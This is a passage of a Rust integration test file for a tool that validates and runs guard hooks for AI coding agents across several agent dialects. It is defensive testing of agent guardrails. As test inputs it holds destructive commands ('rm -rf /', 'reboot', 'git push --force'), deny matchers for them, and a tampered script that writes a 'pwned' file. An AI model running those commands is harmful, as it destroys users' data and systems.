        &json!({"hooks": {"pre_run_command": [{"command": format!("cat >/dev/null; echo user >> {}", s(&ws.join("order")))}]}}),
    );
    let input = r#"{"tool_info":{"command_line":"rm -rf /","cwd":"/"}}"#;
    let r = sb.run_stdin(
        &["run", "pre_run_command", "-w", s(&ws), "--trust-workspace", "--input", "-", "--format", "windsurf"],
        input,
    );
    assert_eq!((r.code, r.stderr.trim(), r.stdout.trim()), (2, "no rm -rf", ""), "{}{}", r.stdout, r.stderr);
    assert_eq!(std::fs::read_to_string(ws.join("order")).unwrap(), "user\n");
    // An allow from a Claude Code hook, answered to Cascade: dropped and said.
    let claude = sb.write_json(
        "claude.json",
        &json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command",
            "command": "cat >/dev/null; echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"allow\"}}'"}]}]}}),
    );
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&claude), "--input", "-", "--format", "windsurf"], BASH_LS);
    assert_eq!((r.code, r.stdout.trim()), (0, ""), "{}", r.stderr);
    assert!(r.stderr.contains("Cascade cannot express allow; dropped"), "{}", r.stderr);
}

// ------------------------------------------------------------------ Kiro

/// Kiro's v1 hook files: `hookline check` on a sample file (a hook without
/// `name`, a disabled hook, a bad version), `run` finding every
/// `.kiro/hooks/*.json`, and `--format kiro`: exit 2 with stderr on
/// PreToolUse ("STDERR returned to LLM"), plain stdout context on
/// SessionStart ("STDOUT added to context").
#[test]
fn kiro_hook_files_are_checked_discovered_and_answered_as_kiro_reads_them() {
    let sb = Sandbox::new();
    let ws = sb.ws();
    let cfg = sb.write_json(
        "ws/.kiro/hooks/guard.json",
        &json!({"version": "v1", "hooks": [
            {"name": "no-rm", "trigger": "PreToolUse", "matcher": "shell",
             "action": {"type": "command", "command": "cat >/dev/null; echo 'no rm' >&2; exit 2"}},
            {"trigger": "Stop", "action": {"type": "command", "command": "true"}},
            {"name": "off", "trigger": "Stop", "enabled": false, "action": {"type": "command", "command": "true"}}
        ]}),
    );
    sb.write_json(
        "ws/.kiro/hooks/context.json",
        &json!({"version": "v1", "hooks": [
            {"name": "ctx", "trigger": "SessionStart", "action": {"type": "command", "command": "cat >/dev/null; echo 'on main'"}}
        ]}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert!(r.stdout.contains("hooks[1]") && r.stdout.contains("no `name`"), "{}", r.stdout);
    assert!(r.stdout.contains("hooks[2]") && r.stdout.contains("disabled"), "{}", r.stdout);
    let bad = sb.write_json("ws/.kiro/hooks/zz.json", &json!({"version": "v2", "hooks": []}));
    let r = sb.run(&["check", s(&bad)]);
    assert_ne!(r.code, 0);
    assert!(format!("{}{}", r.stdout, r.stderr).contains("version"), "{}{}", r.stdout, r.stderr);
    std::fs::remove_file(&bad).unwrap();
    let base = ["-w", s(&ws), "--trust-workspace", "--input", "-", "--format", "kiro"];
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), BASH_LS);
    assert_eq!((r.code, r.stderr.trim()), (2, "no rm"), "{}{}", r.stdout, r.stderr);
    let r = sb.run_stdin(&[&["run", "SessionStart"], &base[..]].concat(), "{}");
    assert_eq!((r.code, r.stdout.trim()), (0, "on main"), "{}", r.stderr);
}

/// Crush's `crush.json`: `hookline check` refuses a Claude Code matcher
/// group ("hook PreToolUse[0]: command is required", Crush's
/// `ValidateHooks`), `run` finds the project's `crush.json`, and `--format
/// crush` answers as Crush reads a hook: exit 2 with stderr denies, exit 49
/// with stderr halts the turn, otherwise the output envelope
/// (`{"decision":"allow"}`, `context`).
#[test]
fn crush_files_are_checked_discovered_and_answered_as_crush_reads_them() {
    let sb = Sandbox::new();
    let ws = sb.ws();
    let nested = sb.write_json(
        "nested/crush.json",
        &json!({"hooks": {"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": "exit 2"}]}]}}),
    );
    let r = sb.run(&["check", s(&nested)]);
    assert_ne!(r.code, 0);
    assert!(format!("{}{}", r.stdout, r.stderr).contains("command is required"), "{}{}", r.stdout, r.stderr);
    let cfg = sb.write_json(
        "ws/crush.json",
        &json!({"hooks": {"pre_tool_use": [
            {"matcher": "^bash$", "command": "cat >/dev/null; case \"$CRUSH_TOOL_INPUT_COMMAND\" in rm*) echo 'no rm' >&2; exit 2;; reboot*) echo 'stop everything' >&2; exit 49;; esac"},
            {"matcher": "^view$", "command": "cat >/dev/null; echo '{\"decision\":\"allow\",\"context\":\"read-only\"}'"}
        ]}}),
    );
    let r = sb.run(&["check", "--strict", s(&cfg)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let base = ["-w", s(&ws), "--trust-workspace", "--input", "-", "--format", "crush"];
    let call =
        |tool: &str, input: Value| json!({"event": "PreToolUse", "tool_name": tool, "tool_input": input}).to_string();
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), &call("bash", json!({"command": "rm -rf /"})));
    assert_eq!((r.code, r.stderr.trim()), (2, "no rm"), "{}{}", r.stdout, r.stderr);
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), &call("bash", json!({"command": "reboot"})));
    assert_eq!((r.code, r.stderr.trim()), (49, "stop everything"), "{}{}", r.stdout, r.stderr);
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), &call("view", json!({"file_path": "a"})));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json(), json!({"decision": "allow", "context": ["read-only"]}));
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), &call("bash", json!({"command": "ls"})));
    assert_eq!((r.code, r.stdout.trim()), (0, ""), "{}", r.stderr);
}

// ------------------------------------------------------------------ OpenHands

/// OpenHands: `hookline check` on a file with a matcher on an event without a
/// tool (its hooks never run: "if tool_name is None: return self.matcher in
/// ('*', '')") and an unknown event (the file fails: extra fields are
/// forbidden); `run` finding the workspace's `.openhands/hooks.json` before
/// the user's (only the first is read); `--format openhands`: exit 2 with
/// the reason on stderr, and prompt context as `{"additionalContext": …}`.
#[test]
fn openhands_files_are_checked_discovered_and_answered_as_openhands_reads_them() {
    let sb = Sandbox::new();
    let ws = sb.ws();
    let cfg = sb.write_json(
        "ws/.openhands/hooks.json",
        &json!({"hooks": {
            "pre_tool_use": [{"matcher": "terminal", "hooks": [{"command": "cat >/dev/null; echo 'no rm' >&2; exit 2"}]}],
            "user_prompt_submit": [{"hooks": [{"command": "cat >/dev/null; echo '{\"additionalContext\": \"on main\"}'"}]}],
            "stop": [{"matcher": "terminal", "hooks": [{"command": "true"}]}]
        }}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert!(r.stdout.contains("hooks.stop[0].matcher") && r.stdout.contains("never run"), "{}{}", r.stdout, r.stderr);
    let bad = sb.write_json("bad/.openhands/hooks.json", &json!({"hooks": {"notification": []}}));
    let r = sb.run(&["check", s(&bad)]);
    assert_ne!(r.code, 0);
    assert!(format!("{}{}", r.stdout, r.stderr).contains("notification"), "{}{}", r.stdout, r.stderr);
    // The user's file exists too: OpenHands reads the workspace's only.
    sb.write_json(
        "home/.openhands/hooks.json",
        &json!({"hooks": {"pre_tool_use": [{"hooks": [{"command": "cat >/dev/null; echo 'user file' >&2; exit 2"}]}]}}),
    );
    let base = ["-w", s(&ws), "--trust-workspace", "--input", "-", "--format", "openhands"];
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), BASH_LS);
    assert_eq!((r.code, r.stderr.trim()), (2, "no rm"), "{}{}", r.stdout, r.stderr);
    let r = sb.run_stdin(&[&["run", "UserPromptSubmit"], &base[..]].concat(), r#"{"prompt": "hi"}"#);
    assert_eq!((r.code, r.stdout.trim()), (0, r#"{"additionalContext":"on main"}"#), "{}", r.stderr);
    // Without the workspace's file, the user's is read.
    std::fs::remove_file(&cfg).unwrap();
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), BASH_LS);
    assert_eq!((r.code, r.stderr.trim()), (2, "user file"), "{}{}", r.stdout, r.stderr);
}

// ------------------------------------------------------------------ Augment

/// Augment (Auggie CLI): `hookline check` reports a `command` with arguments
/// (Augment runs the script path directly, without a shell) and a
/// millisecond timeout under 100; `run` finds the workspace's
/// `.augment/settings.json` and the user's `~/.augment/settings.json`;
/// `--format augment`: exit 2 with the reason on stderr for a denied tool
/// call ("exit 2 blocks only PreToolUse"), `{"decision":"block",…}` with exit
/// 0 for a blocked Stop ("Stop can block the agent from finishing (via
/// decision: "block")").
#[test]
fn augment_files_are_checked_discovered_and_answered_as_augment_reads_them() {
    use std::os::unix::fs::PermissionsExt;
    let sb = Sandbox::new();
    let ws = sb.ws();
    let script = |name: &str, body: &str| {
        let p = sb.write(name, &format!("#!/bin/sh\ncat >/dev/null\n{body}\n"));
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p.display().to_string()
    };
    let guard = script("ws/.augment/hooks/guard.sh", "echo 'no rm' >&2\nexit 2");
    let stop = script("home/.augment/hooks/stop.sh", "echo '{\"decision\":\"block\",\"reason\":\"tests fail\"}'");
    let cfg = sb.write_json(
        "ws/.augment/settings.json",
        &json!({"hooks": {"PreToolUse": [{"matcher": "launch-process", "hooks": [
            {"type": "command", "command": guard, "timeout": 5000}
        ]}]}}),
    );
    sb.write_json(
        "home/.augment/settings.json",
        &json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": stop}]}]}}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let bad = sb.write_json(
        "bad/.augment/settings.json",
        &json!({"hooks": {"PreToolUse": [{"hooks": [
            {"type": "command", "command": format!("{guard} --strict")},
            {"type": "command", "command": guard, "timeout": 5}
        ]}]}}),
    );
    let r = sb.run(&["check", s(&bad)]);
    let said = format!("{}{}", r.stdout, r.stderr);
    assert!(said.contains("has arguments") && said.contains("5 milliseconds"), "{said}");
    let base = ["-w", s(&ws), "--trust-workspace", "--input", "-", "--format", "augment"];
    let launch = r#"{"tool_name":"launch-process","tool_input":{"command":"rm -rf /"}}"#;
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..]].concat(), launch);
    assert_eq!((r.code, r.stderr.trim()), (2, "no rm"), "{}{}", r.stdout, r.stderr);
    let r = sb.run_stdin(&[&["run", "Stop"], &base[..]].concat(), r#"{"stop_hook_active": false}"#);
    assert_eq!((r.code, r.stdout.trim()), (0, r#"{"decision":"block","reason":"tests fail"}"#), "{}", r.stderr);
}

// ------------------------------------------------------------------ Cursor

/// A Cursor project: `ws/.cursor/hooks.json`.
fn cursor_config(sb: &Sandbox, hooks: Value) -> PathBuf {
    sb.write_json("ws/.cursor/hooks.json", &json!({"version": 1, "hooks": hooks}))
}

const SHELL_PUSH: &str = r#"{"tool_name":"Shell","tool_input":{"command":"git push --force"}}"#;

#[test]
fn cursor_configs_run_explain_and_digest_by_their_path() {
    let sb = Sandbox::new();
    let deny = "cat >/dev/null; echo '{\"permission\":\"deny\",\"user_message\":\"no force pushes\"}'";
    let cfg = cursor_config(
        &sb,
        json!({
            "preToolUse": [{"command": "cat >/dev/null; echo '{}'", "matcher": "Shell"}],
            "beforeShellExecution": [{"command": deny, "matcher": "--force"}],
            "beforeReadFile": [{"command": "cat >/dev/null; echo secrets; exit 2"}]
        }),
    );
    let ws = sb.ws();
    let base = ["-c", s(&cfg), "-w", s(&ws), "--input", "-"];
    let r = sb.run_stdin(&[&["run", "PreToolUse"], &base[..], &["--format", "json"]].concat(), SHELL_PUSH);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert_eq!(r.stderr.trim(), "no force pushes");
    assert_eq!(r.json()["hooks"].as_array().unwrap().len(), 2);
    // Cursor's own names: a native gate, and a canonical event by its camelCase key.
    let r =
        sb.run_stdin(&[&["run", "beforeReadFile"], &base[..], &["--format", "json"]].concat(), r#"{"file_path":"/a"}"#);
    assert_eq!((r.code, r.json()["reason"].as_str()), (2, Some("secrets")), "{}", r.stderr);
    let r = sb.run_stdin(&[&["run", "preToolUse"], &base[..], &["--format", "json"]].concat(), SHELL_PUSH);
    assert_eq!(r.code, 2, "{}", r.stderr);
    // explain: the shell hook's matcher is tested against the command.
    let r = sb.run_stdin(&[&["explain", "PreToolUse"], &base[..], &["--format", "json"]].concat(), SHELL_PUSH);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let entries = r.json();
    let shell =
        entries["hooks"].as_array().unwrap().iter().find(|e| e["path"] == "hooks.beforeShellExecution[0]").unwrap();
    assert_eq!(shell["subject"], "the shell command = \"git push --force\"");
    assert_eq!(shell["verdict"], "runs");
    // digest lines name the dialect; the shell hook is listed once.
    let r = sb.run(&["digest", "-w", s(&ws)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("cursor beforeShellExecution [--force]"), "{}", r.stdout);
    assert_eq!(r.stdout.matches("no force pushes").count(), 1, "{}", r.stdout);
}

#[test]
fn check_reports_what_cursor_rejects_and_what_it_skips() {
    let sb = Sandbox::new();
    let cfg = cursor_config(&sb, json!({"PreToolUse": [{"command": "true"}]}));
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout.contains("unknown Cursor hook event `PreToolUse`") && r.stdout.contains("`preToolUse`"),
        "{}",
        r.stdout
    );
    let cfg = cursor_config(
        &sb,
        json!({
            "beforeShellExecution": [{"type": "prompt", "prompt": "safe?"}, {"command": "true", "async": true}],
            "preToolUse": [{"command": "true", "matcher": "Bash"}],
            "afterFileEdit": [{"command": "true"}]
        }),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    let out = &r.stdout;
    assert!(out.contains("hooks.beforeShellExecution[0]") && out.contains("skipped"), "{out}");
    assert!(out.contains("hooks.beforeShellExecution[1].async"), "{out}");
    assert!(out.contains("\"Bash\" can never match a known tool name (Cursor rule)"), "{out}");
    assert!(!out.contains("unknown event key"), "Cursor's own events are not unknown keys: {out}");
    assert!(sb.run(&["check", "--strict", s(&cfg)]).code == 1);
}

#[test]
fn the_dialect_flag_reads_any_file_as_cursor() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "policy.json",
        &json!({"hooks": {"stop": [{"command": "cat >/dev/null; echo '{\"followup_message\":\"run the tests\"}'"}]}}),
    );
    let input = r#"{"status":"completed"}"#;
    let r =
        sb.run_stdin(&["run", "Stop", "-c", s(&cfg), "--dialect", "cursor", "--input", "-", "--format", "json"], input);
    assert_eq!((r.code, r.json()["block_reason"].as_str()), (2, Some("run the tests")), "{}", r.stderr);
    // Read by its shape instead (no version: Claude Code's), its flat entries are not matcher
    // groups: Claude Code skips such a group and reports it, and no hook runs.
    let r = sb.run_stdin(&["run", "Stop", "-c", s(&cfg), "--input", "-", "--format", "json"], input);
    assert_eq!((r.code, r.json()["block_reason"].as_str()), (0, None), "{}", r.stderr);
    assert_eq!(r.json()["hooks"], json!([]), "{}", r.stdout);
    let r = sb.run(&["check", s(&cfg)]);
    assert!(r.stdout.contains("hooks.stop[0]") && r.stdout.contains("skipped"), "{}", r.stdout);
    let r = sb.run(&["check", "--dialect", "cursr", s(&cfg)]);
    assert_ne!(r.code, 0);
    assert!(r.stderr.contains("cursor"), "{}", r.stderr);
    let cases = sb.write_json(
        "cases.json",
        &json!({"config": "policy.json", "dialect": "cursor", "cases": [
            {"name": "keeps going", "event": "Stop", "input": {"status": "completed"},
             "expect": {"blocked": true, "reason_contains": "tests"}},
            {"name": "not after an error", "event": "stop", "input": {"status": "completed", "loop_count": 9},
             "expect": {"blocked": false}}
        ]}),
    );
    let r = sb.run(&["test", s(&cases)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("2 passed, 0 failed"), "{}", r.stdout);
}

/// A PreToolUse payload of a Bash call.
const BASH: &str = r#"{"tool_name":"Bash","tool_input":{"command":"ls"}}"#;

/// `run` and `explain` without --config load what a Claude Code host loads
/// for the workspace: the user's `~/.claude/settings.json` (from $HOME), then
/// the project's `.claude/settings.json` and `.claude/settings.local.json`,
/// and the text output's first line names them.
#[test]
fn run_without_config_loads_the_user_project_and_local_settings() {
    let sb = Sandbox::new();
    let hook = |cmd: &str| json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": cmd}]}]}});
    sb.write_json("home/.claude/settings.json", &hook("echo from-user"));
    sb.write_json("ws/.claude/settings.json", &hook("echo from-project"));
    sb.write_json("ws/.claude/settings.local.json", &hook("echo from-local"));
    let ws = sb.ws();
    let r = sb.run_stdin(&["run", "PreToolUse", "-w", s(&ws), "--format", "text"], BASH);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let first = r.stdout.lines().next().unwrap_or("");
    assert!(first.starts_with("configs: "), "{first}");
    let order: Vec<usize> = ["settings.json (user)", "settings.json (project)", "settings.local.json (local)"]
        .iter()
        .map(|w| first.find(w).unwrap_or_else(|| panic!("{w} missing from {first}")))
        .collect();
    assert!(order.windows(2).all(|w| w[0] < w[1]), "{first}");
    let out = sb.run_stdin(&["run", "PreToolUse", "-w", s(&ws), "--format", "json", "--trust-workspace"], BASH).json();
    let texts: Vec<&str> = out["messages"].as_array().unwrap().iter().filter_map(|m| m["text"].as_str()).collect();
    assert_eq!(texts, ["from-user", "from-project", "from-local"]);
    // Without --trust-workspace the project's files wait for approval.
    let out = sb.run_stdin(&["run", "PreToolUse", "-w", s(&ws), "--format", "json"], BASH).json();
    let texts: Vec<&str> = out["messages"].as_array().unwrap().iter().filter_map(|m| m["text"].as_str()).collect();
    assert_eq!(texts[0], "from-user");
    assert!(texts[1].contains("workspace hooks are not approved"), "{texts:?}");
    let ex = sb.run_stdin(&["explain", "PreToolUse", "-w", s(&ws), "--format", "json"], BASH).json();
    let origins: Vec<&str> = ex["configs"].as_array().unwrap().iter().filter_map(|c| c["origin"].as_str()).collect();
    assert_eq!(origins, ["user", "project", "local"]);
    // Nothing to load: said, not silently `continue`.
    let empty = sb.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let mut c = sb.cmd(&["run", "PreToolUse", "-w", s(&empty), "--format", "text"]);
    c.env("HOME", &empty);
    let none = sb.run_with(c, Some(BASH));
    assert!(none.stdout.starts_with("configs: none"), "{}", none.stdout);
}

/// A payload piped to `run` is its input without `--input -` (a host pipes
/// the event's JSON to a command hook).
#[test]
fn run_reads_a_piped_payload_without_input_flag() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let payload = r#"{"tool_name":"Bash","tool_input":{"command":"rm -rf /"}}"#;
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--format", "json"], payload);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert_eq!(r.json()["decision"], "deny");
    // An empty pipe is `{}` (which a PreToolUse input is not).
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--format", "json"], "");
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("tool_name"), "{}", r.stderr);
}

/// Claude Code sets `CLAUDE_PLUGIN_ROOT` ("the absolute path to the plugin
/// directory") for a plugin's hooks: a config at `<plugin>/hooks/hooks.json`
/// gets `<plugin>`, and `--plugin-root DIR` sets it for any config.
#[test]
fn a_plugin_hooks_json_gets_its_plugin_root() {
    let sb = Sandbox::new();
    let guard =
        r#"test -f "${CLAUDE_PLUGIN_ROOT}/guard.sh" || { echo "no plugin root: [$CLAUDE_PLUGIN_ROOT]" >&2; exit 2; }"#;
    let cfg = sb.write_json(
        "plug/hooks/hooks.json",
        &json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": guard}]}]}}),
    );
    sb.write("plug/guard.sh", "exit 0\n");
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--format", "json"], BASH);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let other = sb.path().join("elsewhere");
    std::fs::create_dir_all(&other).unwrap();
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--plugin-root", s(&other), "--format", "json"], BASH);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("no plugin root: ["), "{}", r.stderr);
    let ex = sb.run_stdin(&["explain", "PreToolUse", "-c", s(&cfg), "--format", "json"], BASH).json();
    assert_eq!(ex["configs"][0]["plugin_root"], s(&sb.path().join("plug")));
}

/// Gemini CLI's documented hook path (`$GEMINI_PROJECT_DIR/.gemini/hooks/…`)
/// and Cursor's (`"$CURSOR_PROJECT_DIR"/.cursor/hooks/…`): approved, then
/// the script replaced by one that writes a file — `trust diff` names it
/// and `run --gated` does not run it.
#[test]
fn trust_pins_gemini_and_cursor_project_dir_scripts_and_run_gated_skips_a_replaced_one() {
    for (file, config, script) in [
        (
            "ws/.gemini/settings.json",
            json!({"hooks": {"BeforeTool": [{"hooks": [{"type": "command",
                "command": "$GEMINI_PROJECT_DIR/.gemini/hooks/guard.sh"}]}]}}),
            "ws/.gemini/hooks/guard.sh",
        ),
        (
            "ws/.gemini/settings.json",
            json!({"hooks": {"BeforeTool": [{"hooks": [{"type": "command",
                "command": "${GEMINI_CWD}/.gemini/hooks/guard.sh"}]}]}}),
            "ws/.gemini/hooks/guard.sh",
        ),
        (
            "ws/.cursor/hooks.json",
            json!({"version": 1, "hooks": {"preToolUse": [{"command": "\"$CURSOR_PROJECT_DIR\"/.cursor/hooks/guard.sh"}]}}),
            "ws/.cursor/hooks/guard.sh",
        ),
    ] {
        let sb = Sandbox::new();
        let cfg = sb.write_json(file, &config);
        let script = sb.write(script, "#!/bin/sh\ncat >/dev/null\nexit 0\n");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        let store = sb.path().join("trust.json");
        let ws = sb.ws();
        let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(r.stdout.contains("pin ") && r.stdout.contains("guard.sh"), "{file}: {}", r.stdout);
        std::fs::write(&script, "#!/bin/sh\ntouch \"$HOOKLINE_PROJECT_DIR\"/pwned\nexit 0\n").unwrap();
        let r = sb.run(&["trust", "diff", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)]);
        assert_eq!(r.code, 1, "{file}: {}", r.stdout);
        assert!(r.stdout.contains("changed ") && r.stdout.contains("guard.sh"), "{file}: {}", r.stdout);
        let r = sb.run_stdin(
            &["run", "PreToolUse", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store), "--gated", "--format", "json"],
            BASH_LS,
        );
        assert_eq!(r.code, 0, "{file}: {}", r.stderr);
        assert_eq!(r.json()["hooks"][0]["skipped"], "changed_since_approval", "{file}: {}", r.stdout);
        assert!(!ws.join("pwned").exists(), "{file}: the replaced script ran");
    }
}

/// A script path the gate cannot resolve is said so: an `unpinned` line in
/// `trust approve` and `trust diff`, a warning from `check`.
#[test]
fn unresolvable_script_paths_are_unpinned_in_trust_and_check() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "$HOOKS_HOME/guard.sh"}]}]}}),
    );
    let store = sb.path().join("trust.json");
    let ws = sb.ws();
    let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("unpinned $HOOKS_HOME/guard.sh"), "{}", r.stdout);
    let r = sb.run(&["trust", "diff", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)]);
    assert!(r.stdout.contains("unpinned $HOOKS_HOME/guard.sh") && r.stdout.contains("(in stop:"), "{}", r.stdout);
    let r = sb.run(&["trust", "diff", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store), "--format", "json"]);
    assert_eq!(r.json()["unpinned"][0]["unpinned"][0], "$HOOKS_HOME/guard.sh");
    let r = sb.run(&["check", s(&cfg)]);
    assert!(
        r.stdout.contains("hooks.Stop[0].hooks[0]")
            && r.stdout.contains("$HOOKS_HOME/guard.sh names a script whose path"),
        "{}",
        r.stdout
    );
}

/// `run --format claude` as Claude Code's own command hook fails closed:
/// Claude Code's hooks reference — "Exit code 2: Blocking error. stderr is
/// fed back to Claude"; "Other exit codes: Non-blocking error … execution
/// continues". So hookline's own errors (a config it cannot read, an
/// invalid config, input it cannot parse) answer exit 2 with the error on
/// stderr on an event that can block, unless `--on-error allow`.
#[test]
fn run_format_claude_blocks_on_its_own_errors_unless_on_error_allow() {
    let sb = Sandbox::new();
    let good = claude_config(&sb);
    let invalid = sb.write("invalid.json", r#"{"hooks": {"PreToolUse": ["#);
    let missing = sb.path().join("missing.json");
    let cases: [(&str, &Path, &str, &str); 4] = [
        ("unreadable config", &missing, BASH_LS, "missing.json"),
        ("invalid config", &invalid, BASH_LS, "not valid JSON"),
        ("input that is not JSON", &good, "{not json", "the input (stdin) is not valid JSON"),
        ("input the event rejects", &good, r#"{"tool_input": {}}"#, "tool_name"),
    ];
    for (what, cfg, input, says) in cases {
        let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(cfg), "--input", "-", "--format", "claude"], input);
        assert_eq!(r.code, 2, "{what}: a guard that cannot run blocks: {}", r.stderr);
        assert!(r.stderr.contains(says) && r.stderr.contains("blocks"), "{what}: {}", r.stderr);
        assert!(r.stdout.is_empty(), "{what}: {}", r.stdout);
        let r = sb.run_stdin(
            &["run", "PreToolUse", "-c", s(cfg), "--input", "-", "--format", "claude", "--on-error", "allow"],
            input,
        );
        assert_eq!(r.code, 1, "{what}: --on-error allow is Claude Code's non-blocking error: {}", r.stderr);
        assert!(r.stderr.contains(says), "{what}: {}", r.stderr);
    }
    // SessionStart cannot be blocked: its error stays a non-blocking one.
    let r = sb.run_stdin(&["run", "SessionStart", "-c", s(&missing), "--input", "-", "--format", "claude"], "{}");
    assert_eq!(r.code, 1, "{}", r.stderr);
    // The text and json formats are no agent's hook: an error is exit 1.
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&missing), "--input", "-", "--format", "json"], BASH_LS);
    assert_eq!(r.code, 1, "{}", r.stderr);
    // A valid config and input run as before.
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&good), "--input", "-", "--format", "claude"], BASH_RM);
    assert_eq!((r.code, r.stderr.trim()), (2, "no recursive deletes"));
}

/// A usage error is exit 1 like every other error ("Exit status: 0 proceed
/// or success, 2 denied or blocked (run), 1 error"); `--help` and
/// `--version` exit 0. But `run` as an agent's command hook with a command
/// line hookline cannot read (a misspelt option) must not fail open: it
/// answers with the agent's blocking answer, as for its other errors.
#[test]
fn usage_errors_exit_1_except_a_guard_that_fails_closed() {
    let sb = Sandbox::new();
    let r = sb.run(&["check"]);
    assert_eq!(r.code, 1, "a missing argument is an error: {}", r.stderr);
    assert!(r.stderr.contains("required arguments were not provided"), "{}", r.stderr);
    assert_eq!(sb.run(&["--frobnicate"]).code, 1);
    assert_eq!(sb.run(&["--help"]).code, 0);
    assert_eq!(sb.run(&["--version"]).code, 0);
    assert_eq!(sb.run(&["run", "PreToolUse", "--bogus", "--format", "json"]).code, 1);
    // Claude Code: "Exit code 2: Blocking error. stderr is fed back to Claude".
    let r = sb.run(&["run", "PreToolUse", "--bogus", "--format", "claude"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("blocks") && r.stderr.contains("'--bogus'"), "{}", r.stderr);
    let r = sb.run(&["run", "--format=claude", "--on-error", "allow", "--bogus", "PreToolUse"]);
    assert_eq!(r.code, 1, "--on-error allow is the non-blocking error: {}", r.stderr);
    // Cursor reads the reason from stdout ("exit 2 … equivalent to returning permission: deny").
    let r = sb.run(&["run", "-f", "cursor", "--bogus", "beforeShellExecution"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stdout.contains("'--bogus'"), "{}", r.stdout);
    // Gemini CLI: exit 2 with `decision: "deny"` on stdout.
    let r = sb.run(&["run", "BeforeTool", "--format", "gemini", "--bogus"]);
    assert_eq!((r.code, r.json()["decision"].as_str()), (2, Some("deny")), "{}", r.stdout);
    // An event no hook can block keeps the non-blocking error.
    assert_eq!(sb.run(&["run", "SessionStart", "--format", "claude", "--bogus"]).code, 1);
    // No event to tell: exit 2, the error on stderr.
    let r = sb.run(&["run", "--format", "claude", "--bogus"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
}

/// A Cursor hooks file without `"version"` outside `.cursor/` is read as
/// Claude Code settings; the error says what the file looks like and how to
/// name its dialect, rather than only "must define at least one hook command".
#[test]
fn a_flat_entry_read_as_claude_code_names_the_agents_it_looks_like() {
    let sb = Sandbox::new();
    let cfg = sb.write_json("hooks.json", &json!({"hooks": {"preToolUse": [{"command": "./guard.sh"}]}}));
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout.contains("must define at least one hook command")
            && r.stdout.contains("as in a Cursor or Copilot CLI hooks file")
            && r.stdout.contains("`--dialect`"),
        "{}",
        r.stdout
    );
}

/// Every agent that can run hookline as its command hook gets its own
/// blocking answer for hookline's errors: Codex, VS Code, VT Code (exit 2,
/// reason on stderr); Gemini CLI ("exit 2 … fields apply": `decision:
/// "deny"`); Cursor ("exit 2 … equivalent to returning permission: deny",
/// the reason the raw stdout); Copilot CLI (preToolUse exit 2 denies; a
/// permissionRequest's reason is stdout's `message`).
#[test]
fn run_fails_closed_with_each_agents_blocking_answer() {
    let sb = Sandbox::new();
    let missing = sb.path().join("missing.json");
